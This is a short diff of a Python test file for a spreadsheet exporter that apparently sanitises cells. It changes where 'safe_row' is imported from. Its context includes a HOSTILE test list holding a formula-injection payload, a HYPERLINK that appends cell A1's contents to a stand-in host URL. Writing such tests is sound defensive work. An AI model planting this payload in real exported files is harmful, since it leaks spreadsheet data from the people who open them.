@@ -8,7 +8,8 @@ import unicodedata
 import openpyxl
 import pytest
 
-from egov_report.core.exporting import QUOTE, safe_cell, safe_row
+from egov_report.core.exporting import QUOTE, safe_cell
+from support.exports import safe_row
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
